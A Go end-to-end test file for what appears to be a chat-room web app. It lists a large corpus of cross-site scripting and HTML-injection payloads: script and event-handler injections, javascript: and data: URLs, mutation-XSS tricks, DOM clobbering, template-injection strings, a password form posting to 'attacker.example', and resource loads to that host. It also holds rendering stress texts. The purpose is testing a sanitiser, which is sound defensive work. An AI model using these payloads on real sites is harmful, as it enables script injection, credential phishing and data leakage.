package e2e

import (
	"strings"
)

// run is what the corpus tries to get executed: it leaves a flag in the window
// that should not know of it, and opens a dialog.
const run = `window.pwned=1;top.pwned=1;alert(document.domain)`

// away is a host that must never be asked; it leads into the trap.
const away = "attacker.example"

// hostile are messages that try to run a script, to change the interface, or to
// fetch something: one line for each way in that sanitisers were known to miss.
// RUN stands for run, AWAY for away.
var hostile = strings.Split(strings.NewReplacer("RUN", run, "AWAY", away).Replace(strings.TrimSpace(`
<script>RUN</script>
<SCRIPT SRC=//AWAY/x.js></SCRIPT>
<script type=module>RUN</script>
<script/x>RUN</script >
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN>
<img src='data:image/png;base64,AAAA' onerror=RUN>
<IMG SRC="javascript:RUN">
<img """><script>RUN</script>">
<img src="x`+"`"+`<script>RUN</script>"`+"`"+`>
<body onload=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:,RUN"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>click</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mi xlink:href="javascript:RUN">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=RUN">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noembed><img title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><img title="</noframes><img src=x onerror=RUN>">
<xmp><img title="</xmp><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<plaintext><img src=x onerror=RUN>
<textarea><img title="</textarea><img src=x onerror=RUN>">
<title><img title="</title><img src=x onerror=RUN>">
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script><style>*{display:none}</style></template>
<select><option><script>RUN</script></select>
<select><style></select><img src=x onerror=RUN></style>
<table><td><form><table><input onfocus=RUN autofocus>
<a href="javascript:RUN">click</a>
<a href="JaVaScRiPt:RUN">click</a>
<a href="java&#x09;script:RUN">click</a>
<a href="java&#10;script:RUN">click</a>
<a href=" &#14; javascript:RUN">click</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">click</a>
<a href="javascript&colon;RUN">click</a>
<a href="data:text/html,<script>RUN</script>">click</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==">click</a>
<a href="vbscript:msgbox(1)">click</a>
<a href="blob:x">click</a>
<a href="//AWAY/x">click</a>
<a href="/r/x/logout">click</a>
<a href="https://AWAY/" ping="https://AWAY/ping">click</a>
<a href="https://AWAY/" target=_top rel=opener download>click</a>
<a href="https://AWAY/" onclick=RUN onmouseover=RUN>click</a>
<area href="javascript:RUN">
<map name=m><area shape=default href="javascript:RUN"></map><img usemap=#m src=x>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>RUN</script>"></iframe>
<iframe src="https://AWAY/"></iframe>
<iframe src="data:text/html,<script>RUN</script>">
<frameset><frame src="javascript:RUN"></frameset>
<object data="javascript:RUN"></object>
<object data="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="></object>
<embed src="javascript:RUN">
<embed src="https://AWAY/x.swf">
<applet code="javascript:RUN"></applet>
<portal src="https://AWAY/"></portal>
<fencedframe src="https://AWAY/"></fencedframe>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=https://AWAY/">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta name=referrer content=unsafe-url>
<base href="https://AWAY/">
<link rel=stylesheet href="https://AWAY/x.css">
<link rel=prefetch href="https://AWAY/x">
<link rel=dns-prefetch href="https://AWAY/">
<link rel=preconnect href="https://AWAY/">
<link rel=icon href="https://AWAY/favicon.ico">
<style>@import "https://AWAY/x.css";</style>
<style>*{display:none!important}</style>
<style>@font-face{font-family:x;src:url(https://AWAY/x.woff)}body{font-family:x}</style>
<style>body{background:url("https://AWAY/x.png")}</style>
<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>
<div style="position:absolute;top:-500px;left:0;width:2000px;height:2000px">over everything</div>
<div style="margin-top:-500px;height:1000px;background:red">over what is above</div>
<div style="transform:scale(50)">large</div>
<div style="background:url(https://AWAY/x.png)">picture</div>
<div style="background:\75rl(https://AWAY/x.png)">picture</div>
<div style="width:expression(RUN)">old</div>
<div style="-moz-binding:url(https://AWAY/x.xml#x)">old</div>
<div style="color:red;position:fixed">both</div>
<div class="dialog banner room-head composer visually-hidden">our own classes</div>
<p class="button" data-room data-seq=99999999999 data-body>our own marks</p>
<div id=message name=html>our own names</div>
<div id=counter data-hint>clobbered</div>
<a id=defaultView></a><a id=defaultView name=x href="x:y">clobbered</a>
<form id=document><input name=cookie></form>
<img name=getElementById src=x>
<img name=currentScript id=forms src=x>
<div data-log data-composer data-purge-dialog data-status data-left>clobbered</div>
<dialog open class=dialog>Purge this room?<button>Purge for everyone</button></dialog>
<form action="https://AWAY/" method=post><label>Password<input name=password></label><button>Join room</button></form>
<form action="/rooms" method=post><button>Create room</button></form>
<button form=x formaction="javascript:RUN">Send</button>
<button popovertarget=message popovertargetaction=hide>Send</button>
<button commandfor=message command=show-modal>Send</button>
<div popover=manual id=p>popover</div>
<input type=image src="https://AWAY/x.png" onerror=RUN>
<input autofocus onfocus=RUN>
<isindex action="javascript:RUN" type=image>
<keygen autofocus onfocus=RUN>
<details open ontoggle=RUN><summary>more</summary></details>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster="https://AWAY/poster.png" src="https://AWAY/x.mp4" autoplay preload></video>
<audio src="https://AWAY/x.mp3" autoplay onplay=RUN></audio>
<audio src="data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=" autoplay onloadeddata=RUN></audio>
<track src="https://AWAY/x.vtt" default>
<video><track src="https://AWAY/x.vtt" default></video>
<picture><source srcset="https://AWAY/x.png 1x, https://AWAY/y.png 2x"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="></picture>
<img srcset="https://AWAY/x.png 2x" src="data:image/gif;base64,R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==">
<img src="https://AWAY/x.png">
<img src="//AWAY/x.png">
<img src="/r/x/logout">
<img src="\\AWAY\x.png">
<img lowsrc="https://AWAY/x.png" dynsrc="https://AWAY/x.png">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLnB3bmVkPTEiPjxpbWFnZSBocmVmPSJodHRwczovL2F0dGFja2VyLmV4YW1wbGUveC5wbmciLz48L3N2Zz4=">
<image src=x onerror=RUN>
<body background="https://AWAY/x.png">
<table background="https://AWAY/x.png"><td background="javascript:RUN">cell</td></table>
<bgsound src="https://AWAY/x.mp3">
<marquee onstart=RUN loop=1 behavior=alternate>moving</marquee>
<blink>blinking</blink>
<q cite="javascript:RUN">quote</q>
<blockquote cite="https://AWAY/">quote</blockquote>
<del cite="javascript:RUN">del</del>
<html manifest="https://AWAY/x"><head><title>Another title</title></head>
</div></div></li></ol></main><h1>The room has moved to AWAY</h1>
</body></html><p>after the page</p>
</template></script></style></textarea></title><b>closed</b>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN> -->
<!--[if gte IE 4]><script>RUN</script><![endif]-->
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE html [<!ENTITY x "<script>RUN</script>">]>&x;
<b <script>RUN</script>>bold</b>
<b title="<img src=x onerror=RUN>">title</b>
<b title='"><img src=x onerror=RUN>'>title</b>
<b title=`+"`"+`"><img src=x onerror=RUN>`+"`"+`>title</b>
<img alt="&quot;><img src=x onerror=RUN>" src="data:,">
<x onclick=RUN tabindex=1 autofocus onfocus=RUN>unknown</x>
<x-y is=x>custom</x-y>
<slot name=x></slot><b slot=x part=y exportparts=z>shadow</b>
<b contenteditable autofocus onfocus=RUN accesskey=x draggable=true tabindex=1>editable</b>
<b hidden inert aria-hidden=true role=alert aria-live=assertive>hidden</b>
<b onpointerenter=RUN onanimationstart=RUN oncontentvisibilityautostatechange=RUN>events</b>
{{constructor.constructor('RUN')()}}
{{7*7}} [[7*7]] #{7*7} @{7*7}
${RUN} `+"`${RUN}`"+`
<%= RUN %> <? RUN ?> <#assign x=1>
<b x-init="RUN" x-data @click="RUN" v-html="RUN" ng-app ng-init="RUN" data-bind="html: RUN" hx-get="//AWAY/" data-hx-get="//AWAY/">framework</b>
{% debug %} {{= RUN }} {{{ RUN }}} <!--# include virtual="/" -->
\u003cscript\u003eRUN\u003c/script\u003e
%3Cscript%3ERUN%3C/script%3E
+ADw-script+AD4-RUN+ADw-/script+AD4-
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
"};RUN;//
</script><script>RUN</script>
'-RUN-'
`)), "\n")

// hostileTexts are more that does not fit on a line: what is deep, invisible or
// runs against the direction of writing.
func hostileTexts() []string {
	return []string{
		strings.Repeat("<div>", 3000) + "deep" + strings.Repeat("</div>", 2),
		strings.Repeat("<b><i>", 1000) + "deep formatting",
		strings.Repeat("<table><tr><td>", 300) + "deep tables",
		strings.Repeat("<ul><li>", 800) + "deep lists",
		strings.Repeat("<blockquote>", 1200) + "deep quotes",
		strings.Repeat("</div>", 2000) + "closing",
		strings.Repeat("<sup>", 500) + "up",
		strings.Repeat("<big>", 500) + "big",
		strings.Repeat("<details open><summary>", 300) + "deep details",
		"<table><tr><td colspan=65535 rowspan=65535>wide</td></tr></table>",
		"<img width=99999 height=99999 src='" + onePixel + "'>",
		"<pre>" + strings.Repeat("\n", 3000) + "</pre>",
		strings.Repeat("<br>", 3000),
		strings.Repeat("<hr>", 2000),
		"\u202e\u2066txt.exe \u2067right to left\u2069",
		"<bdo dir=rtl>" + strings.Repeat("\u202e", 200) + "overridden",
		"<span dir=rtl>\u202eשלום ana 12:00 AM",
		strings.Repeat("a"+strings.Repeat("\u0301", 200), 20),
		strings.Repeat("\u0300\u0489", 3000),
		"﷽" + strings.Repeat("﷽", 500),
		strings.Repeat("W", 16000),
		strings.Repeat("\u200b\u00ad", 4000) + "x",
		"x\x00y\x01z\x0b\x7f\u0085\ufeff\ufffe",
		strings.Repeat("&nbsp;", 2500),
		strings.Repeat("<span>", 2000) + "x",
		strings.Repeat("<ruby>漢<rt>", 300) + "x",
	}
}

// hostileNames go where people write plain text: alias and room name. Whatever
// is refused, with a sentence, is fine as well.
var hostileNames = []string{
	`<script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`,
	`"><svg onload=alert(1)>`,
	`'"--><b>bold</b>`,
	`</bdi></h1><h1>x`,
	`</template><b>x`,
	`{{constructor}}`,
	`{{7*7}}${7*7}<%=7*7%>`,
	`{alias} {n} {host}`,
	`$& $1 $$ \0 \u0041`,
	`javascript:alert(1)`,
	`&lt;b&gt;&amp;&quot;`,
	`<%= 7*7 %>`,
	"\u202eanA",
	"a" + strings.Repeat("\u0301", 20),
	"__proto__",
	"constructor",
	"null", "undefined", "true", "0",
	"[object Object]",
	"Purge for everyone",
	"you", "Mayfly",
	"WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
	"🐢🐢🐢🐢🐢🐢",
}
